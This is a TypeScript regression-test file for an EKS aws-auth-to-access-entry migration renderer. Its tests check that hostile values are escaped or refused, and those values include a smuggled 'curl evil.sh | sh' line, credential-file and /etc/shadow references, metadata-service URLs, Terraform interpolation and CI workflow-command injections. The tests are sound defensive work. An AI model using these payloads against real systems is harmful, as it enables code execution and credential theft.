/**
 * One named regression test per finding of the audit of the migration
 * outputs (SPEC 4.7.1), each written to fail on the code before the fix.
 * The real consumers (the AWS CLI, terraform, CloudFormation's YAML reader
 * and resource schema) run the whole hostile corpus in hostile-corpus/*.test.ts;
 * these rows pin each finding on its smallest input.
 */
import { parse as parseShell } from 'shell-quote';
import { describe, expect, it } from 'vitest';
import { parseAwsAuth } from '../../src/aws-auth/parse.js';
import { planAccessEntryMigration } from '../../src/migrate/plan.js';
import { renderMigration } from '../../src/migrate/render/index.js';
import type { MigrationFormat } from '../../src/migrate/render/index.js';
import { planRequests } from '../../src/migrate/render/requests.js';
import { hclString } from '../../src/migrate/render/terraform.js';
import { findControlCharacter } from '../../src/util/control-characters.js';
import { readTemplate } from '../support/cloudformation-template.js';
import { hasLegacyCommand, REGISTERED_COMMANDS } from '../support/workflow-commands.js';
import type {
  MigrationEntry,
  MigrationPlan,
  PlanAccessEntryMigrationOptions,
} from '../../src/migrate/types.js';

const A = '111122223333';
const FORMATS: MigrationFormat[] = ['json', 'aws-cli', 'cloudformation', 'terraform'];
const role = (name: string): string => `arn:aws:iam::${A}:role/${name}`;
const base: PlanAccessEntryMigrationOptions = { clusterName: 'prod' };

/** A mapRoles entry with every value written as a YAML double-quoted (JSON) string. */
function entry(name: string, username: string, groups: string[]): string {
  return `- rolearn: ${role(name)}\n  username: ${JSON.stringify(username)}\n  groups: [${groups.map((g) => JSON.stringify(g)).join(', ')}]\n`;
}

function plan(
  mapRoles: string,
  options: Partial<PlanAccessEntryMigrationOptions> = {},
): MigrationPlan {
  return planAccessEntryMigration({ mapRoles }, { ...base, ...options });
}

describe('Terraform: hclString wrote "${" again ($$ in a JavaScript replacement string is one $)', () => {
  it.each([
    ['${file("/etc/passwd")}', '"$${file(\\"/etc/passwd\\")}"'],
    ['x-${var.db_password}', '"x-$${var.db_password}"'],
    ['%{ if true }x%{ endif }', '"%%{ if true }x%%{ endif }"'],
    ['$${x}', '"$$${x}"'],
    ['100%', '"100%"'],
  ])('%s', (value, hcl) => {
    expect(hclString(value)).toBe(hcl);
  });

  it('a username "${var.x}" is rendered as the escaped literal', () => {
    const text = renderMigration(plan(entry('r', 'x:${var.db_password}', ['ops'])), {
      format: 'terraform',
    });
    expect(text).toContain('user_name     = "x:$${var.db_password}"');
    expect(text).not.toMatch(/[^$]\$\{var/);
  });
});

describe('Terraform: \\b and \\f are not HCL escapes (JSON.stringify wrote them)', () => {
  it.each([
    ['\b', '"\\u0008"'],
    ['\f', '"\\u000c"'],
    ['\u007f', '"\\u007f"'],
    ['\u202e', '"\\u202e"'],
    ['é', '"\\u00e9"'],
    ['😀', '"\\U0001f600"'],
    ['a"b\\c\nd\re\tf', '"a\\"b\\\\c\\nd\\re\\tf"'],
  ])('%j', (value, hcl) => {
    expect(hclString(value)).toBe(hcl);
  });
});

describe('aws-cli: option-like list items and file:// values were read by the AWS CLI', () => {
  const hostile = plan(
    entry('r', 'file://~/.aws/credentials', [
      '--cluster-name=other',
      `--principal-arn=arn:aws:iam::999999999999:role/Attacker`,
      'fileb:///etc/shadow',
      'http://169.254.169.254/latest/meta-data/',
      '-',
      '--',
    ]),
  );
  const script = renderMigration(hostile, { format: 'aws-cli' });
  const lines = script.trimEnd().split('\n');

  it('starts with set -euo pipefail', () => {
    expect(lines.slice(0, 1)).toEqual(['#!/usr/bin/env bash']);
    expect(lines.find((l) => !l.startsWith('#'))).toBe('set -euo pipefail');
  });

  it('gives each request whole in --cli-input-json, exactly the JSON request', () => {
    const commands = lines.filter((l) => l.startsWith('aws '));
    expect(commands).toHaveLength(1);
    const words = parseShell(commands[0] as string) as string[];
    expect(words.slice(0, 4)).toEqual(['aws', 'eks', 'create-access-entry', '--cli-input-json']);
    expect(words).toHaveLength(5);
    expect(JSON.parse(words[4] as string)).toEqual(planRequests(hostile)[0]?.create);
  });
});

describe('CloudFormation: {{resolve:…}} was passed on (resolved at deploy time with the deployer’s rights)', () => {
  it.each<[string, string, Partial<PlanAccessEntryMigrationOptions>]>([
    [
      'username',
      entry('r', '{{resolve:secretsmanager:prod/db:SecretString:password}}', ['ops']),
      {},
    ],
    ['group', entry('r', 'r:{{SessionName}}', ['{{resolve:ssm:/prod/group}}']), {}],
    [
      'role path from principalArns',
      entry('r', 'r:{{SessionName}}', ['ops']),
      { principalArns: [role('{{resolve:ssm:/x}}/r')] },
    ],
  ])('in a %s: a dynamic-reference loss, never rendered', (_where, mapRoles, options) => {
    const p = plan(mapRoles, options);
    expect(p.losses.map((l) => l.code)).toContain('dynamic-reference');
    for (const format of FORMATS) {
      if (p.entries.length === 0 && format === 'cloudformation') continue;
      expect(renderMigration(p, { format })).not.toContain('{{resolve');
    }
  });

  it('is a lint error', () => {
    const a = parseAwsAuth({ mapRoles: entry('r', 'x:{{resolve:ssm:/a}}', ['ops']) });
    expect(a.diagnostics).toContainEqual(
      expect.objectContaining({ code: 'dynamic-reference', severity: 'error', field: 'username' }),
    );
  });
});

describe('a NUL in a group: bash cut it, lint was silent, plan.check() said "equivalent"', () => {
  const mapRoles = entry('r', 'r:{{SessionName}}', ['cluster-admins\u0000-readonly']);

  it('is a loss and the group is not planned', () => {
    const p = plan(mapRoles);
    expect(p.losses).toEqual([
      expect.objectContaining({ code: 'control-character', key: 'mapRoles', index: 0 }),
    ]);
    expect(p.entries[0]?.kubernetesGroups).toEqual([]);
    expect(p.canSwitchToApi).toBe(false);
  });

  it('plan.check() does not call it equivalent', async () => {
    expect((await plan(mapRoles).check()).equivalent).toBe(false);
  });

  it('is a lint error', () => {
    const a = parseAwsAuth({ mapRoles });
    expect(a.diagnostics).toContainEqual(
      expect.objectContaining({ code: 'control-character', severity: 'error', field: 'groups' }),
    );
  });
});

describe('raw C1 and bidi characters reached every format', () => {
  it('NEL is a YAML 1.1 line break: EKS reads a space there (go-yaml read_line, scannerc.go), so it reaches no format', () => {
    const mapRoles = entry('r', 'admin\u0085:{{SessionName}}', ['dev\u0085ops', 'plain']);
    const awsAuth = parseAwsAuth({ mapRoles });
    expect(awsAuth.mapRoles[0]?.username).toBe('admin :{{SessionName}}');
    expect(awsAuth.mapRoles[0]?.groups).toEqual(['dev ops', 'plain']);
    for (const format of FORMATS)
      expect(renderMigration(plan(mapRoles), { format })).not.toContain('\u0085');
  });

  it.each([
    ['CSI', '\u009b'],
    ['DEL', '\u007f'],
    ['ESC', '\u001b'],
    ['RIGHT-TO-LEFT OVERRIDE', '\u202e'],
    ['LEFT-TO-RIGHT ISOLATE', '\u2066'],
    ['RIGHT-TO-LEFT MARK', '\u200f'],
    ['ARABIC LETTER MARK', '\u061c'],
    ['LINE SEPARATOR', '\u2028'],
    ['PARAGRAPH SEPARATOR', '\u2029'],
    ['ZERO WIDTH NO-BREAK SPACE', '\ufeff'],
  ])('%s: a loss in a username and a group, a lint error, in no format', (_name, c) => {
    const mapRoles = entry('r', `admin${c}:{{SessionName}}`, [`dev${c}ops`, 'plain']);
    const p = plan(mapRoles);
    expect(p.losses.map((l) => l.code)).toEqual(['control-character', 'control-character']);
    for (const format of FORMATS) expect(renderMigration(p, { format })).not.toContain(c);
    const codes = parseAwsAuth({ mapRoles }).diagnostics.map((d) => `${d.code}:${d.field}`);
    expect(codes).toEqual(
      expect.arrayContaining(['control-character:username', 'control-character:groups']),
    );
  });
});

describe('CloudFormation logical ids collided ("1Admin" at 1 = "Admin" at 11: one entry dropped)', () => {
  const names = ['1Admin', ...Array.from({ length: 9 }, (_, i) => `filler${i}`), 'Admin'];
  const mapRoles = names.map((n) => entry(n, `${n}:{{SessionName}}`, ['ops'])).join('');

  function logicalIds(p: MigrationPlan): Map<string, string> {
    // Duplicate keys are an error for this reader, as for CloudFormation.
    const template = readTemplate(renderMigration(p, { format: 'cloudformation' }));
    return new Map(
      Object.entries(template.Resources).map(([id, r]) => [r.Properties.PrincipalArn, id]),
    );
  }

  it('every entry keeps its own resource', () => {
    const ids = logicalIds(plan(mapRoles));
    expect(ids.size).toBe(names.length);
    expect(new Set(ids.values()).size).toBe(names.length);
  });

  it('ids are stable when an entry is added before the others', () => {
    const before = logicalIds(plan(mapRoles));
    const after = logicalIds(plan(entry('zz-new', 'n:{{SessionName}}', ['ops']) + mapRoles));
    for (const [arn, id] of before) expect(after.get(arn)).toBe(id);
  });
});

describe('CloudFormation: an empty plan rendered "Resources: {}" (CloudFormation refuses it)', () => {
  it('renders no template and says why', () => {
    const empty = plan('', {});
    expect(empty.entries).toEqual([]);
    expect(() => renderMigration(empty, { format: 'cloudformation' })).toThrow(
      expect.objectContaining({ code: 'ERR_MIGRATION_RENDER', reason: 'empty-plan' }),
    );
  });
});

describe('system:masters twice associated the cluster-admin policy twice', () => {
  it('associates it once', () => {
    const p = plan(entry('r', 'r:{{SessionName}}', ['system:masters', 'ops', 'system:masters']));
    expect(p.entries[0]?.accessPolicies).toHaveLength(1);
    expect(planRequests(p)[0]?.associate).toHaveLength(1);
    expect(p.entries[0]?.kubernetesGroups).toEqual(['ops']);
  });
});

describe('managed node group and Fargate roles were planned, and EKS answers 409', () => {
  // "It's unnecessary to create an access entry for an IAM role that's used for
  // a managed node group or a Fargate profile. EKS will create access entries"
  // (AWS EKS user guide, "Create access entries",
  // https://docs.aws.amazon.com/eks/latest/userguide/creating-access-entries.html;
  // awsdocs/amazon-eks-user-guide 1b1d3dfc latest/ug/manage-access/k8s-access/creating-access-entries.adoc);
  // CreateAccessEntry answers 409 ResourceInUseException for an existing entry
  // (https://docs.aws.amazon.com/eks/latest/APIReference/API_CreateAccessEntry.html).
  const NODES = entry('nodes', 'system:node:{{EC2PrivateDNSName}}', [
    'system:bootstrappers',
    'system:nodes',
  ]);
  const WINDOWS = entry('win', 'system:node:{{EC2PrivateDNSName}}', [
    'system:bootstrappers',
    'system:nodes',
    'eks:kube-proxy-windows',
  ]);
  const FARGATE = entry('fargate', 'system:node:{{SessionName}}', [
    'system:bootstrappers',
    'system:nodes',
    'system:node-proxier',
  ]);
  const HYBRID = entry('hybrid', 'system:node:{{SessionName}}', [
    'system:bootstrappers',
    'system:nodes',
  ]);
  const ALL = NODES + WINDOWS + FARGATE + HYBRID;

  it('without existing entries: not planned, a warning that says why (hybrid nodes still planned)', () => {
    const p = plan(ALL);
    expect(p.entries.map((e) => e.type)).toEqual(['HYBRID_LINUX']);
    const warned = p.warnings.filter((w) => w.code === 'node-role-not-planned');
    expect(warned.map((w) => w.index)).toEqual([0, 1, 2]);
    for (const w of warned) {
      expect(w.message).toContain('409 ResourceInUseException');
      expect(w.message).toContain('--include-node-roles');
    }
    expect(p.losses).toEqual([]);
  });

  it('with existing entries: only the missing ones', () => {
    const p = plan(ALL, {
      existingAccessEntries: [{ principalArn: role('nodes'), type: 'EC2_LINUX' }],
    });
    expect(p.entries.map((e) => [e.principalArn, e.type])).toEqual([
      [role('win'), 'EC2_WINDOWS'],
      [role('fargate'), 'FARGATE_LINUX'],
      [role('hybrid'), 'HYBRID_LINUX'],
    ]);
    expect(p.warnings.map((w) => w.code)).toContain('existing-entry-equivalent');
    expect(p.warnings.map((w) => w.code)).not.toContain('node-role-not-planned');
  });

  it('with includeNodeRoles: all of them', () => {
    expect(plan(ALL, { includeNodeRoles: true }).entries.map((e) => e.type)).toEqual([
      'EC2_LINUX',
      'EC2_WINDOWS',
      'FARGATE_LINUX',
      'HYBRID_LINUX',
    ]);
  });
});

describe('Terraform normalized a value to Unicode NFC (found with terraform on the corpus)', () => {
  // "e" + U+0301 came back from terraform as U+00E9: another group to Kubernetes.
  it('refuses a value not in NFC rather than render it', () => {
    const p = plan(entry('r', 'r:{{SessionName}}', ['cafe\u0301']));
    expect(() => renderMigration(p, { format: 'terraform' })).toThrow(
      expect.objectContaining({ code: 'ERR_MIGRATION_RENDER', reason: 'unsafe-value' }),
    );
    for (const format of ['json', 'aws-cli', 'cloudformation'] as const) {
      expect(renderMigration(p, { format })).toContain('cafe\\u0301');
    }
  });
});

describe('CloudFormation: a template over 500 resources is refused by CloudFormation', () => {
  it('renders none and says why', () => {
    const mapRoles = Array.from({ length: 501 }, (_, i) => entry(`r${i}`, `u${i}`, [])).join('');
    expect(() => renderMigration(plan(mapRoles), { format: 'cloudformation' })).toThrow(
      expect.objectContaining({ code: 'ERR_MIGRATION_RENDER', reason: 'too-many-resources' }),
    );
  });
});

describe('GitHub Actions: "##[" in a value was a live workflow command in every format', () => {
  // The runner finds "##[" anywhere in a line (actions/runner at
  // 258d6c857db3519913f7deb6004b60172f8043ae, src/Runner.Common/ActionCommand.cs
  // TryParse, lines 121-139): a CI log showing the plan masked or forged text.
  const p = plan(entry('dev', '##[add-mask]x', ['##[error]y', 'a ##[warning]z']));

  it.each(FORMATS)('%s writes the "[" of "##[" as \\u005b, the same value', (format) => {
    const text = renderMigration(p, { format });
    expect(text).not.toContain('##[');
    expect(text.split('\n').filter((l) => hasLegacyCommand(l, REGISTERED_COMMANDS))).toEqual([]);
    expect(text).toContain('##\\u005badd-mask]x');
    expect(text).toContain('a ##\\u005bwarning]z');
  });

  it('each format reads back the value as it was', () => {
    const json = JSON.parse(renderMigration(p, { format: 'json' })) as {
      createAccessEntry: { username: string; kubernetesGroups: string[] }[];
    };
    expect(json.createAccessEntry[0]).toMatchObject({
      username: '##[add-mask]x',
      kubernetesGroups: ['##[error]y', 'a ##[warning]z'],
    });
    const template = readTemplate(renderMigration(p, { format: 'cloudformation' }));
    const [resource] = Object.values(template.Resources);
    expect(resource?.Properties.Username).toBe('##[add-mask]x');
    expect(resource?.Properties.KubernetesGroups).toEqual(['##[error]y', 'a ##[warning]z']);
    expect(hclString('##[error]y')).toBe('"##\\u005berror]y"');
  });
});

/** The plan of one STANDARD entry, for hand-built plans. */
function handBuilt(patch: Record<string, unknown>): MigrationPlan {
  return { ...plan(entry('dev', 'dev', ['devs'])), ...patch } as MigrationPlan;
}

describe("renderMigration wrote a hand-built plan's target (and cluster name) into comments unchecked", () => {
  // A target with a line break became a line of the aws-cli script before "set -euo pipefail".
  const rows: [string, Record<string, unknown>][] = [
    ['a target that injects a shell line', { target: 'API)\ncurl evil.sh | sh\n#' }],
    ['a target that ends a Terraform comment', { target: 'API\nresource "x" "y" {}' }],
    ['CONFIG_MAP (no migration target)', { target: 'CONFIG_MAP' }],
    ['a target in lower case', { target: 'api' }],
    ['no target', { target: undefined }],
    ['a target that is no string', { target: ['API'] }],
    ['a cluster name that is no string', { clusterName: { toString: () => 'prod' } }],
  ];
  it.each(rows.flatMap(([name, patch]) => FORMATS.map((f) => [name, f, patch] as const)))(
    '%s: %s refuses it (unsafe-value)',
    (_name, format, patch) => {
      expect(() => renderMigration(handBuilt(patch), { format })).toThrow(
        expect.objectContaining({ code: 'ERR_MIGRATION_RENDER', reason: 'unsafe-value' }),
      );
    },
  );

  it.each(['API', 'API_AND_CONFIG_MAP'])('target %s is rendered', (target) => {
    for (const format of FORMATS) {
      expect(renderMigration(handBuilt({ target }), { format })).toContain(target);
    }
  });
});

describe('Terraform: two policy associations of one entry could get one resource name', () => {
  const VIEW = 'arn:aws:eks::aws:cluster-access-policy/AmazonEKSViewPolicy';
  const withPolicies = (policyArns: string[]): MigrationPlan => {
    const p = plan(entry('dev', 'dev', ['devs']));
    const e = p.entries[0] as MigrationEntry;
    const accessPolicies = policyArns.map((policyArn) => ({
      policyArn,
      accessScope: { type: 'cluster' as const, namespaces: [] },
    }));
    return { ...p, entries: [{ ...e, accessPolicies }] };
  };
  it.each<[string, string[]]>([
    ['one policy twice', [VIEW, VIEW]],
    ['one name in two partitions', [VIEW, VIEW.replace(':aws:', ':aws-cn:')]],
    ['names that read alike once cut to [a-z0-9_]', [VIEW, `${VIEW.slice(0, -6)}-Policy`]],
  ])('%s is refused (name-clash), never two resources of one name', (_, policyArns) => {
    expect(() => renderMigration(withPolicies(policyArns), { format: 'terraform' })).toThrow(
      expect.objectContaining({ code: 'ERR_MIGRATION_RENDER', reason: 'name-clash' }),
    );
  });

  it('two different policies get two names', () => {
    const text = renderMigration(withPolicies([VIEW, VIEW.replace('View', 'Edit')]), {
      format: 'terraform',
    });
    const names = [...text.matchAll(/resource "aws_eks_access_policy_association" "(\w+)"/g)];
    expect(new Set(names.map((m) => m[1])).size).toBe(2);
  });
});

describe('CloudFormation: astral characters were written as two \\u halves (lone surrogates to PyYAML)', () => {
  // PyYAML, which cfn-lint and the AWS CLI read templates with, makes each
  // "\uD83D" half a lone surrogate; libyaml refuses them.
  it('writes one \\UXXXXXXXX escape for a character above U+FFFF', () => {
    const text = renderMigration(plan(entry('dev', 'dev-\u{1F600}', ['\u{10FFFF}'])), {
      format: 'cloudformation',
    });
    expect(text).toContain('Username: "dev-\\U0001f600"');
    expect(text).toContain('- "\\U0010ffff"');
    expect(text).not.toMatch(/\\ud[89a-f]/i);
    const [resource] = Object.values(readTemplate(text).Resources);
    expect(resource?.Properties.Username).toBe('dev-\u{1F600}');
  });
});

describe('planner messages printed existing entries, accounts and map keys raw', () => {
  const ESC = '\u001b[2J';
  const BIDI = 'admins\u202e';

  it.each<[string, () => string[]]>([
    [
      'an existing entry that differs: its ARN and groups',
      () => {
        const existing = JSON.stringify([
          {
            principalArn: role('dev'),
            type: 'STANDARD',
            username: 'other',
            kubernetesGroups: [`x${ESC}`, BIDI],
          },
        ]);
        return plan(entry('dev', 'dev', ['devs']), {
          existingAccessEntries: existing,
        }).losses.map((l) => l.message);
      },
    ],
    [
      'a mapAccounts item',
      () =>
        planAccessEntryMigration({ mapAccounts: '- "1111\\x1b[2J"\n' }, base).losses.map(
          (l) => l.message,
        ),
    ],
  ])('%s: quoted with control characters escaped', (_, messages) => {
    const texts = messages();
    expect(texts.length).toBeGreaterThan(0);
    for (const text of texts) {
      expect(findControlCharacter(text), text).toBeUndefined();
      expect(text).toContain('\\u001b');
    }
  });

  it('a principalArns map key naming another principal', () => {
    expect(() =>
      plan(entry('dev', 'dev', []), {
        principalArns: { [`arn:aws:iam::${A}:role/other${ESC}`]: role('team/dev') },
      }),
    ).toThrow(
      expect.objectContaining({
        message: expect.stringContaining('role/other\\u001b[2J'),
      }),
    );
  });

  it("plan.check() differences: the ConfigMap's usernames and groups", async () => {
    const p = plan(entry('dev', `dev${'\u0085'}x`, [BIDI, 'devs']));
    const { differences } = await p.check();
    expect(differences.length).toBeGreaterThan(0);
    for (const d of differences) {
      expect(findControlCharacter(d.message), d.message).toBeUndefined();
    }
  });
});
